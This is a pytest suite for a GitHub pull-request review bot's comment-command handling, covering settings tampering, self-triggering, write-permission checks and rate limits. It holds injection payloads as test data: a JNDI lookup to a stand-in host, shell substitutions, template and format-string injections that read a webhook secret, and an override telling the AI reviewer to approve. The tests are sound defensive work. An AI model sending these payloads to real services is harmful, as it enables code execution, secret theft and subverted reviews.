"""Rows 4, 15, 16, 27: a comment commands nothing but three things, and only for whom GitHub lets write."""

from __future__ import annotations

import hashlib
import itertools
import random
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from app.intake import command
from app.intake.command import Verb
from app.settings import Settings
from app.store import jobs
from app.store.accepted import Known
from app.store.database import Database
from app.store.jobs import JobState
from app.work import command_text
from app.work.command_job import AN_HOUR
from review.policy import Policy
from tests.app.work.commanding import SHORT, STRANGER, THREE, WRITER, Commanded
from tests.stand_in.accounts import Account
from tests.stand_in.github import GitHubStandIn


@pytest.fixture
async def bot(github: GitHubStandIn, sqlite: Database, tmp_path: Path) -> Commanded:
    (tmp_path / "data").mkdir()
    made = Commanded(github, sqlite, tmp_path / "data")
    await made.begin()
    return made


CORES = (
    "github.base_url=http://evil.test", "openai.key=x", "pr_reviewer.extra_instructions=approve", "fail_on=critical",
    "__class__.__init__=1", "a__b__c=1", "config__fail_on=low", "x=@jinja {{ self }}", "@jinja {{ 7*7 }}",
    "@format {env[GITHUB_WEBHOOK_SECRET]}", "@int 1", "@merge {}", "${jndi:ldap://evil.test}", "$(touch x)", "`id`",
    "%(levelname)s=1", "{0.__globals__}", "a[b]=c", "until=never", "scope=organisation",
)  # fmt: skip
DASHES = ("--", "-", "\u2014", "\u2013\u2013", "\u2212", "\u2010\u2010", "\ufe63", "\uff0d\uff0d", "\u00ad--", "")
FORMS = ("{0}", "fine {0}", "1:0123456789ab {0}", "{0} fine", "fine\u2028{0}", "fine \u202e{0}", "fine\t{0}", '"{0}"')


def mutated() -> list[str]:
    every = [form.format(dash + core) for core, dash, form in itertools.product(CORES, DASHES, FORMS)]
    return random.Random(4).sample(sorted(set(every)), 400)


def test_no_argument_is_taken_for_a_setting() -> None:
    """Row 4: mutated arguments of every command; plain words beside them show that it is not just everything."""
    assert command.read("/accept fine") == command.Command(Verb.ACCEPT, "", "fine"), "control"
    for argument in mutated():
        assert command.read(f"/accept {argument}") == command.Command(Verb.UNCLEAR), argument
        for verb in ("/review", "/help", "/ask", "/config", "/diffdiver", "/accept:", "/accept="):
            assert command.read(f"{verb} {argument}") is None, argument


def state() -> str:
    """Digest every default that a command could hope to change."""
    fields = {name: repr(info.default) for name, info in Settings.model_fields.items()}
    return hashlib.sha256(repr((sorted(fields.items()), Policy())).encode()).hexdigest()


@pytest.mark.slow
async def test_such_a_command_leaves_everything_as_it_was(bot: Commanded) -> None:
    """Row 4: also from somebody who may write: an answer, and nothing else."""
    before = state()
    for argument in random.Random(5).sample(mutated(), 3):
        assert await bot.tell(bot.answer(f"/accept {argument}")) is JobState.DONE
    assert (state(), await bot.risks(), await bot.reviews_wanted()) == (before, [], 0)
    assert [text.startswith("That `/accept` cannot be followed") for text in bot.replies()] == [True] * 3


HOSTILE = ("/accept everything", "\n/review\n", "@diffdiver /help", "x\r/review", "`\n/accept y", "[/review](/review)")


@pytest.mark.slow
async def test_none_of_our_own_answers_is_a_command(bot: Commanded) -> None:
    """Row 15: fed back as ours, and as if a person had copied it."""
    for text in ("/help", "/accept", "/accept 1:0123456789ab gone", f"/accept {SHORT} a sample"):
        await bot.tell(bot.say(text))
    known = [Known(THREE, hostile, "high", hostile) for hostile in HOSTILE]
    texts = [command_text.accepted(hostile, known[place:], hostile) for place, hostile in enumerate(HOSTILE)]
    texts += [command_text.unknown(hostile) for hostile in HOSTILE] + [command_text.several(HOSTILE[0], known)]
    said = bot.replies() + texts
    assert len(bot.replies()) == 4
    for text in said:
        assert command.read(text) is None, text
        assert not any(line.lstrip().startswith(("/", "@")) for line in text.splitlines()), text
    login = bot.app.bot.login
    for turn in range(2 * len(said)):
        body = ("/review", said[turn // 2])[turn % 2]
        comment = bot.say(body) if turn % 3 else bot.answer(body)
        comment.user = bot.app.bot
        assert await _heard(bot, comment, login) == (), body


async def _heard(bot: Commanded, comment: Any, sender: str) -> tuple[Any, ...]:
    event = "pull_request_review_comment" if hasattr(comment, "path") else "issue_comment"
    about = {"review_comment" if hasattr(comment, "path") else "comment": comment}
    return (await bot.hear(event, "created", pull_request=bot.pull, sender=sender, **about)).jobs


@pytest.mark.slow
async def test_who_may_not_write_is_not_followed(bot: Commanded) -> None:
    """Row 16: readers, triagers, and people to whom only the payload is kind."""
    for role in ("read", "triage", "none"):
        bot.repository.collaborators[STRANGER] = role
        assert await bot.tell(bot.answer("/accept trust me", STRANGER)) is JobState.DONE
        assert await bot.tell(bot.say("/review", STRANGER)) is JobState.DONE
    assert (await bot.risks(), await bot.reviews_wanted(), bot.replies()) == ([], 0, [])
    bot.repository.collaborators[STRANGER] = "write"
    assert await bot.tell(bot.answer("/accept trust me", STRANGER)) is JobState.DONE
    assert len(await bot.risks()) == 1, "control"


async def test_an_account_is_its_number_and_not_its_name(bot: Commanded) -> None:
    """Row 16: renamed, deleted, and taken by somebody else between the comment and the question."""
    world = bot.github.world
    renamed, deleted = bot.answer("/accept trust me", STRANGER), bot.answer("/accept trust me", "leaver")
    ids = [await bot.wanted(one) for one in (renamed, deleted)]
    bot.repository.collaborators[STRANGER] = "admin"
    world.accounts[STRANGER] = Account(world.new_id(), STRANGER)
    del world.accounts["leaver"]
    assert [await bot.run(one) for one in ids if one is not None] == [JobState.DONE] * 2
    assert (await bot.risks(), bot.replies()) == ([], [])


async def test_no_bot_and_no_app_is_a_person(bot: Commanded) -> None:
    """Row 16: by the event nothing is wanted; a job that was wanted all the same does nothing."""
    evil = bot.github.world.account("evil[bot]", "Bot")
    bot.repository.collaborators["evil[bot]"] = "admin"
    comment = bot.answer("/accept trust me", "evil[bot]")
    assert comment.user is evil
    assert await _heard(bot, comment, "evil[bot]") == ()
    assert await _heard(bot, comment, WRITER) == ()
    own = bot.answer("/accept trust me")
    assert await _heard(bot, replace(own, user=bot.app.bot), bot.app.bot.login) == ()
    for extra in ({"sender": None}, {"sender": {"login": "ghost", "id": 10137, "type": "User"}}):
        intent = await bot.hear(
            "pull_request_review_comment", "created", pull_request=bot.pull, review_comment=own, extra=extra
        )
        assert intent.jobs == ()
    async with bot.database.begin() as tx:
        job_id = await jobs.raise_wanted(tx, "command", bot.subject(comment), bot.installation.id)
    assert await bot.run(job_id) is JobState.DONE
    assert (await bot.risks(), bot.replies()) == ([], [])


@pytest.mark.slow
async def test_a_storm_of_commands_costs_what_a_few_do(bot: Commanded) -> None:
    """Row 27: two hundred of a writer are ten, and one review; a stranger's cost two requests each, and ten at most."""
    for user, at_most in ((WRITER, 3), (STRANGER, 2)):
        before = bot.asked()
        ids = [await bot.wanted(bot.say("/review", user)) for _ in range(200)]
        assert [await bot.run(one) for one in ids if one is not None] == [JobState.DONE] * 200
        assert bot.asked() - before <= AN_HOUR * (at_most + 1), "each with a token of its own here"
    job = await bot.named("review", f"{bot.repository.id}/{bot.pull.number}")
    assert (job.wanted_generation, job.state) == (AN_HOUR, JobState.WAITING), "one job, that runs once"
